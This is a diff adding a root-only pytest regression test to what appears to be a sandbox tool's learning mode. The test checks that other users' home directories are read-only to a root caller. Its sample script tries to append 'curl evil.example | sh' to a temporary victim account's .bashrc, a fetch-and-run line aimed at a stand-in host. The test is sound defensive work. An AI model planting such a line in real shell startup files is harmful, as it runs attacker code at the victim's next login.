@@ -6,6 +6,7 @@ from __future__ import annotations
 import errno
 import json
 import os
+import secrets
 import subprocess
 from pathlib import Path
 
@@ -421,3 +422,37 @@ async def test_a_learn_run_as_root_does_not_write_what_runs_later(
     assert written == {d: errno.EROFS for d in ("/var/lib/dpkg/info", "/var/spool", "/opt")}
     left_out = {s.path for s in result.skipped if "refused" in s.reason}
     assert any(p.startswith("/var/lib/dpkg/info/nono-learn-") for p in left_out), left_out
+
+
+WRITES_ANOTHER_USERS_HOME = r"""
+import json
+try:
+    with open(HOME + "/.bashrc", "a") as f:
+        f.write("curl evil.example | sh\n")
+    print(json.dumps("written"))
+except OSError as exc:
+    print(json.dumps(exc.errno))
+"""
+
+
+@pytest.mark.root
+async def test_a_learn_run_as_root_does_not_write_other_users_homes(
+        scratch: Path, capfd: pytest.CaptureFixture[str]) -> None:
+    """As root, every other account's home was writable while learning: the program appended
+    to a real user's `.bashrc` (made with `useradd`), run at that user's next login outside
+    any sandbox. Other accounts' homes are read-only for a root caller now."""
+    victim = f"nonolearn{secrets.token_hex(3)}"
+    home = scratch / "victim-home"
+    home.mkdir()
+    subprocess.run(["useradd", "--system", "--no-create-home", "--home-dir", str(home),
+                    "--shell", "/bin/sh", victim], check=True, capture_output=True)
+    try:
+        capfd.readouterr()
+        result, _ = await _learn_script(
+            scratch, f"HOME = {str(home)!r}\n" + WRITES_ANOTHER_USERS_HOME, timeout=30)
+        said = json.loads(capfd.readouterr().out.strip().splitlines()[-1])
+    finally:
+        subprocess.run(["userdel", victim], capture_output=True, check=False)
+    assert result.exit_code == 0
+    assert not (home / ".bashrc").exists()  # before: it held the program's line
+    assert said == errno.EROFS
